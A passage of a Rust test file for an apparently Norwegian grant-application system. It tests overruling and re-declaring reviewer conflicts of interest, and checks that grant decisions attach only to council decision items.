    w.store.overrule_inhabil(&actor(), &a.id, &cecilie, reason).unwrap();
    let view = w.store.scheme_detail(&w.scheme.id, day(2026, 4, 1)).unwrap();
    assert!(view.rows[0].inhabil.is_empty());
    assert_eq!(view.rows[0].overruled.len(), 1);
    assert_eq!(view.rows[0].overruled[0].person_name, "Cecilie Ask");
    assert_eq!(view.rows[0].overruled[0].organisation, "Stavern IL");
    assert_eq!(view.rows[0].overruled[0].reason, reason);
    // She scores, and counts among those who must score before a decision.
    w.store
        .save_scores(&actor(), &a.id, &cecilie, &scores(&w.scheme, [4, 4, 4]))
        .unwrap();
    let detail = w.store.application_detail(&a.id, day(2026, 4, 1)).unwrap();
    let review = detail.reviews.iter().find(|r| r.membership_id == cecilie).unwrap();
    assert!(review.inhabil.is_none());
    assert_eq!(review.overruled.as_ref().unwrap().reason, reason);
    assert_eq!(review.weighted, Some(4.0));
    assert!(!detail.missing_scores.contains(&"Cecilie Ask".to_owned()));
    // A second overruling is refused: nothing is proposed any more.
    assert!(w.store.overrule_inhabil(&actor(), &a.id, &cecilie, reason).is_err());
    // Withdrawn: inhabil as proposed again, her scores no longer count and are removed.
    w.store.clear_inhabil(&actor(), &a.id, &cecilie).unwrap();
    let detail = w.store.application_detail(&a.id, day(2026, 4, 1)).unwrap();
    let review = detail.reviews.iter().find(|r| r.membership_id == cecilie).unwrap();
    assert_eq!(review.inhabil.as_ref().unwrap().source, InhabilSource::Organisation);
    assert!(review.overruled.is_none());
    assert!(review.scores.is_empty());
    // Declaring her inhabil over an overruling makes her inhabil, with the new reason.
    w.store.overrule_inhabil(&actor(), &a.id, &cecilie, reason).unwrap();
    w.store
        .declare_inhabil(&actor(), &a.id, &cecilie, "Kasserer i laget")
        .unwrap();
    let detail = w.store.application_detail(&a.id, day(2026, 4, 1)).unwrap();
    let review = detail.reviews.iter().find(|r| r.membership_id == cecilie).unwrap();
    assert_eq!(review.inhabil.as_ref().unwrap().reason, "Kasserer i laget");
    assert!(review.overruled.is_none());
}

#[test]
fn a_grant_decision_is_tied_only_to_a_vedtak_item_of_the_council() {
    let mut w = world();
    let a = apply(&mut w, "Stavern vel", "10 000");
    let detail = w.store.application_detail(&a.id, day(2026, 4, 1)).unwrap();
    // Every item offered decides, has its title and belongs to the council.
    assert!(!detail.decision_items.is_empty());
    assert!(detail.decision_items.iter().all(|c| !c.title.is_empty()));
    let meeting = w
        .store
        .meeting_detail(&detail.decision_items[0].meeting_id, Lang::Nb)
        .unwrap();
    let orientation = w
        .store
        .add_item(
            &actor(),
            &meeting.meeting.id,
            &item(ItemKind::Orientering, "Godkjenning av innkalling og saksliste"),
        )
        .unwrap();
    let detail = w.store.application_detail(&a.id, day(2026, 4, 1)).unwrap();
    assert!(detail.decision_items.iter().all(|c| c.item_id != orientation));
    let input = DecisionInput {
        granted: "10 000".into(),
        reasons: "Tiltaket når mange.".into(),
        item_id: orientation,
    };
    let refused = w
        .store
        .decide_application(&actor(), &a.id, &input)
        .expect_err("not a vedtak item");
    let report = refused.report(Lang::Nb);
    assert_eq!(report.fields[0].field, "itemId");
    assert!(
        report.fields[0].message.starts_with("Velg en sak av typen vedtak"),
        "{report:?}"
    );
}
